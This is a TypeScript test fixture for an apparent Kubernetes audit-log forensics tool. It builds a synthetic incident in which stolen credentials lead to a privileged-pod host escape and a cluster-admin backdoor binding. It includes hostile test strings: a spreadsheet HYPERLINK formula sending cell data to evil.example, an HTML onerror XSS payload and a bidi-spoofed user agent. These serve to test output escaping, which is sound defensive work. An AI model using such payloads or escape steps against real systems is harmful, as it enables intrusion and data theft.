import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AuditEvent, IncidentRecord, StorylineStep } from '../../../src/shared/domain.ts';
import { describeEvent } from '../../../src/engine/events/describe.ts';
import type { Finding } from '../../../src/engine/hunt/types.ts';
import { usToRfc3339 } from '../../../src/engine/hunt/time.ts';
import { ingest } from '../../../src/engine/jobs/ingest.ts';
import { setCaseMeta } from '../../../src/engine/store/case-meta.ts';
import { openCase, type Db } from '../../../src/engine/store/db.ts';
import { getEventsByAuditIDs, iterateEvents } from '../../../src/engine/store/events-read.ts';
import { saveHuntRun } from '../../../src/engine/store/findings.ts';
import { saveIncidents, setIncidentTriage } from '../../../src/engine/store/incidents.ts';
import { setMark } from '../../../src/engine/store/marks.ts';
import { addNote, setTriage } from '../../../src/engine/store/notes.ts';
import { gz, tarOf } from '../ingest/helpers.ts';

/**
 * Strings an attacker controls in an audit log, aimed at spreadsheets (a formula with a comma and
 * quotes), HTML renderers, bidi display and C strings.
 */
export const EVIL = {
  user: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  namespace: '<img src=x onerror=alert(1)>',
  userAgent: 'kubectl\u202Egnp.exe\u0000 Ω',
};

export const META = {
  examiner: 'A. Analyst',
  caseNumber: 'IR-2026-0417',
  requester: 'CISO office (J. Doe)',
  scope: 'Cluster prod-eu-1, API-server audit logs of 28 Nov 2026',
  summary: 'An outside address used alice\'s credentials to start a privileged pod, escape to its node and grant cluster-admin to a new service account.',
  conclusions: 'The alice token is compromised; rotate it and remove the backdoor binding.',
};

const T0 = Date.UTC(2026, 10, 28, 14, 0, 0);
const ATTACKER_IP = '203.0.113.7';
/** Filler incidents past the old PDF's top-10 cut, so "every incident" is tested, not assumed. */
export const FILLER_INCIDENTS = 11;

interface Spec {
  id: string;
  s: number;
  user: string;
  verb: string;
  uri: string;
  ip?: string;
  code?: number;
  objectRef?: Record<string, unknown>;
  requestObject?: unknown;
  userAgent?: string;
}

/** A v1 audit event line as the API server writes it at RequestResponse level. */
function line(e: Spec): string {
  const time = new Date(T0 + e.s * 1000).toISOString().replace('Z', '123Z');
  return JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: e.id,
    stage: 'ResponseComplete',
    requestURI: e.uri,
    verb: e.verb,
    user: { username: e.user, groups: ['system:authenticated'] },
    sourceIPs: [e.ip ?? ATTACKER_IP],
    userAgent: e.userAgent ?? 'kubectl/v1.31.0 (linux/amd64) kubernetes/abc1234',
    objectRef: e.objectRef,
    responseStatus: { metadata: {}, code: e.code ?? 200 },
    requestObject: e.requestObject,
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    annotations: { 'authorization.k8s.io/decision': (e.code ?? 200) === 403 ? 'forbid' : 'allow', 'authorization.k8s.io/reason': '' },
  });
}

const SPECS: Spec[] = [
  { id: 'a0000000-0000-4000-8000-000000000001', s: 0, user: 'system:node:node-1', verb: 'update', uri: '/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-1', ip: '10.0.0.11', userAgent: 'kubelet/v1.31.0', objectRef: { resource: 'leases', namespace: 'kube-node-lease', name: 'node-1', apiGroup: 'coordination.k8s.io', apiVersion: 'v1' } },
  { id: 'a0000000-0000-4000-8000-000000000002', s: 60, user: 'alice@example.com', verb: 'get', uri: '/api/v1/namespaces/kube-system/secrets/admin-token', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'admin-token', apiVersion: 'v1' } },
  { id: 'a0000000-0000-4000-8000-000000000003', s: 75, user: 'alice@example.com', verb: 'list', uri: '/api/v1/namespaces/kube-system/secrets', code: 403, objectRef: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' } },
  {
    id: 'a0000000-0000-4000-8000-000000000004', s: 90, user: 'alice@example.com', verb: 'create', uri: '/api/v1/namespaces/default/pods', code: 201,
    objectRef: { resource: 'pods', namespace: 'default', name: 'debug-qbv8s', apiVersion: 'v1' },
    requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'debug-qbv8s', namespace: 'default' }, spec: { hostPID: true, containers: [{ name: 'debug', image: 'docker.io/evil/miner:1.0', securityContext: { privileged: true } }], volumes: [{ name: 'host', hostPath: { path: '/' } }] } },
  },
  { id: 'a0000000-0000-4000-8000-000000000005', s: 120, user: 'alice@example.com', verb: 'create', uri: '/api/v1/namespaces/default/pods/debug-qbv8s/exec?command=chroot&command=%2Fhost&command=sh&container=debug&stdin=true&tty=true', code: 101, objectRef: { resource: 'pods', subresource: 'exec', namespace: 'default', name: 'debug-qbv8s', apiVersion: 'v1' } },
  {
    id: 'a0000000-0000-4000-8000-000000000006', s: 150, user: 'alice@example.com', verb: 'create', uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', code: 201,
    objectRef: { resource: 'clusterrolebindings', name: 'backdoor-admin', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
    requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'backdoor-admin' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'backdoor', namespace: 'default' }] },
  },
  { id: 'a0000000-0000-4000-8000-000000000007', s: 200, user: 'system:serviceaccount:default:backdoor', verb: 'list', uri: '/api/v1/secrets', objectRef: { resource: 'secrets', apiVersion: 'v1' } },
  { id: 'a0000000-0000-4000-8000-000000000008', s: 300, user: EVIL.user, verb: 'delete', uri: '/api/v1/namespaces/x/secrets/db-password', ip: '198.51.100.9', userAgent: EVIL.userAgent, objectRef: { resource: 'secrets', namespace: EVIL.namespace, name: 'db-password', apiVersion: 'v1' } },
  { id: 'a0000000-0000-4000-8000-000000000009', s: 360, user: 'system:node:node-1', verb: 'update', uri: '/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-1', ip: '10.0.0.11', userAgent: 'kubelet/v1.31.0', objectRef: { resource: 'leases', namespace: 'kube-node-lease', name: 'node-1', apiGroup: 'coordination.k8s.io', apiVersion: 'v1' } },
];

export const ID = (n: number): string => SPECS[n - 1].id;
export const MEMBER = 'var/log/kubernetes/kube-apiserver-audit.log.1.gz';

export interface IncidentCase {
  dir: string;
  db: Db;
  bundle: string;
  events: AuditEvent[];
  incidents: IncidentRecord[];
}

function step(e: AuditEvent, techniques: string[], tactics: string[], findingIds: string[], why: string): StorylineStep {
  const d = describeEvent(e);
  return { time: usToRfc3339(e.timeUs), auditID: e.auditID, user: e.user, sourceIPs: e.sourceIPs, verb: e.verb, target: d.target, summary: d.summary, outcome: d.outcome, tactics, techniques, findingIds, why: [why] };
}

function finding(id: string, title: string, evs: AuditEvent[], severity: Finding['severity'], score: number, techniques: string[]): Finding {
  const startUs = evs[0].timeUs;
  const endUs = evs.at(-1)!.timeUs;
  return {
    id, kind: 'rule', title, start: usToRfc3339(startUs), end: usToRfc3339(endUs), startUs, endUs, score, severity, techniques,
    users: [...new Set(evs.map((e) => e.user))], sourceIPs: [...new Set(evs.flatMap((e) => e.sourceIPs))], auditIDs: evs.map((e) => e.auditID), ruleIds: [id.toLowerCase()],
    reasons: [{ kind: 'rule-hit', text: title, auditIDs: evs.map((e) => e.auditID) }],
  };
}

/**
 * A case read through the real ingest from a tar.gz bundle holding one gzipped audit log (so its
 * evidence has an archive member path), hunted by hand: findings and incidents saved as the new
 * hunt will save them, with case fields, marks, triage and notes set as an analyst would.
 */
export async function buildIncidentCase(): Promise<IncidentCase> {
  const dir = mkdtempSync(join(tmpdir(), 'gumshoe-incidents-'));
  const bundle = join(dir, 'bundle.tar.gz');
  writeFileSync(bundle, gz(await tarOf([{ name: MEMBER, data: gz(`${SPECS.map(line).join('\n')}\n`) }])));
  const db = openCase(join(dir, 'case'), { create: true });
  await ingest(db, [bundle]);
  const events = [...iterateEvents(db)];
  const ev = (n: number): AuditEvent => getEventsByAuditIDs(db, [ID(n)])[0];

  const findings = [
    finding('F-escape', 'Privileged pod with host filesystem, then a shell chrooted into the host', [ev(4), ev(5)], 'critical', 0.92, ['T1610', 'T1611', 'T1609']),
    finding('F-binding', 'cluster-admin granted to a service account', [ev(6), ev(7)], 'high', 0.81, ['T1098']),
    finding('F-secret', 'Secret read in kube-system from an unfamiliar address', [ev(2), ev(3)], 'medium', 0.55, ['T1552.007']),
    finding('F-delete', 'Secret deleted', [ev(8)], 'high', 0.7, ['T1485']),
  ];
  const runId = saveHuntRun(db, { startedAt: new Date(T0 + 3600e3).toISOString(), config: { contamination: 0.006123456789, mode: 'embedding+context', preset: 'actor' }, metrics: { sessions: 3, threshold: 0.61803398875, findings: findings.length } }, findings);

  const main: IncidentRecord = {
    id: 'INC-alice-0001',
    title: 'alice@example.com from 203.0.113.7: secret theft, host escape, cluster-admin backdoor',
    start: usToRfc3339(ev(2).timeUs),
    end: usToRfc3339(ev(7).timeUs),
    score: 0.95,
    severity: 'critical',
    tactics: ['credential-access', 'execution', 'privilege-escalation', 'persistence'],
    techniques: ['T1552.007', 'T1610', 'T1611', 'T1609', 'T1098'],
    users: ['alice@example.com', 'system:serviceaccount:default:backdoor'],
    sourceIPs: [ATTACKER_IP],
    namespaces: ['kube-system', 'default'],
    objects: ['secrets kube-system/admin-token', 'pods default/debug-qbv8s', 'clusterrolebindings backdoor-admin'],
    auditIDs: [2, 3, 4, 5, 6, 7].map(ID),
    findings: ['F-escape', 'F-binding', 'F-secret'],
    links: [
      { kind: 'granted-identity', from: 'alice@example.com', to: 'system:serviceaccount:default:backdoor', text: 'alice bound cluster-admin to backdoor, which then listed every secret', auditIDs: [ID(6), ID(7)] },
      { kind: 'shared-ip', from: 'alice@example.com', to: 'system:serviceaccount:default:backdoor', text: `both acted from ${ATTACKER_IP}`, auditIDs: [ID(5), ID(7)] },
    ],
    storyline: [
      step(ev(2), ['T1552.007'], ['credential-access'], ['F-secret'], 'first read of a kube-system secret by this actor'),
      step(ev(3), ['T1552.007'], ['credential-access'], ['F-secret'], 'denied: an attempt, not a success'),
      step(ev(4), ['T1610'], ['execution'], ['F-escape'], 'privileged pod with hostPath /'),
      step(ev(5), ['T1609', 'T1611'], ['execution', 'privilege-escalation'], ['F-escape'], 'shell chrooted into the node'),
      step(ev(6), ['T1098'], ['persistence'], ['F-binding'], 'cluster-admin to a new identity'),
      step(ev(7), ['T1552.007'], ['credential-access'], ['F-binding'], 'the granted identity acts at once'),
    ],
    reasons: [{ kind: 'new-sourceIP', text: `${ATTACKER_IP} first seen in the case`, auditIDs: [ID(2)] }],
  };
  const hostile: IncidentRecord = {
    id: 'INC-hostile-0002', title: `${EVIL.user} deleted a secret`, start: usToRfc3339(ev(8).timeUs), end: usToRfc3339(ev(8).timeUs), score: 0.7, severity: 'high',
    tactics: ['impact'], techniques: ['T1485'], users: [EVIL.user], sourceIPs: ['198.51.100.9'], namespaces: [EVIL.namespace], objects: [`secrets ${EVIL.namespace}/db-password`],
    auditIDs: [ID(8)], findings: ['F-delete'], links: [], storyline: [step(ev(8), ['T1485'], ['impact'], ['F-delete'], 'secret deleted')], reasons: [],
  };
  const fillers: IncidentRecord[] = Array.from({ length: FILLER_INCIDENTS }, (_, i) => ({
    id: `INC-node-${String(i + 3).padStart(4, '0')}`, title: `Kubelet lease renewal burst ${i + 1}`, start: usToRfc3339(ev(1).timeUs), end: usToRfc3339(ev(9).timeUs),
    score: 0.2 - i * 0.01, severity: 'low', tactics: [], techniques: [], users: ['system:node:node-1'], sourceIPs: ['10.0.0.11'], namespaces: ['kube-node-lease'], objects: ['leases kube-node-lease/node-1'],
    auditIDs: [ID(1), ID(9)], findings: [], links: [], storyline: [step(ev(1), [], [], [], 'new agent version'), step(ev(9), [], [], [], 'renewal')],
    reasons: [{ kind: 'new-userAgent', text: 'kubelet/v1.31.0 first seen: an upgrade, new rather than hostile', auditIDs: [ID(1)] }],
  }));
  const incidents = [main, hostile, ...fillers];
  saveIncidents(db, runId, incidents.map((i) => ({ ...i, startUs: Date.parse(i.start) * 1000, endUs: Date.parse(i.end) * 1000 })));

  setCaseMeta(db, META);
  setIncidentTriage(db, main.id, 'malicious');
  setTriage(db, 'F-escape', 'malicious', META.examiner);
  addNote(db, main.id, 'Confirmed with the cluster owner: alice was on leave. <b>not bold</b>', META.examiner);
  addNote(db, 'F-escape', 'Node node-1 imaged for disk forensics.', META.examiner);
  setMark(db, ID(5), { starred: true, tags: ['escape', 'c2'], comment: 'the moment of escape' }, META.examiner);
  setMark(db, ID(8), { tags: ['hostile-strings'] }, META.examiner);
  return { dir, db, bundle, events, incidents };
}
